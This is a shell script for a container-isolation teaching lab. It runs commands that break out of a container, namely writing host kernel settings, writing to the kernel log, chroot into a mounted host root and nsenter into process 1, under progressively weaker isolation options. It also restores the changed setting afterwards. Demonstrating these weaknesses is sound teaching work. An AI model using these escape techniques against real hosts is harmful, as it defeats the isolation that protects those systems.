#!/bin/sh
# boundary.sh: what --privileged, added capabilities and a mounted host take away from the wall.
# book/labs/boundary.md shows it and says why. Verbs: stage, look, undo; all three without one.
label=vm-only needs="root"
# shellcheck source=book/labs/lab.sh
. "$(dirname "$0")/lab.sh"

attack='echo 7 >/proc/sys/vm/swappiness && echo "wrote a setting of the host"
mount -t tmpfs none /tmp && echo "mounted a file system"
mknod /tmp/kmsg c 1 11 && echo "from inside" >/tmp/kmsg && echo "wrote to the kernel log"
chroot /host ls -d /usr/share && echo "ran a program of the host"
nsenter -t 1 -m ls -d /usr/share && echo "left through process 1"'

stage() {
    cat /proc/sys/vm/swappiness >"$place/before"
    printf '%s\n' "$attack" >"$place/attack"
    try "cat $place/attack"
}

look() {
    for options in "" "--cap-add SYS_ADMIN" "--privileged" "--privileged --pid host" "--bind /:/host"; do
        try "step07 --network none $options --bind $place/attack:/attack:ro --rootfs $rootfs -- sh /attack 2>/dev/null | grep ' '"
    done
}

undo() {
    try "cat $place/before >/proc/sys/vm/swappiness"
}

lab "$@"
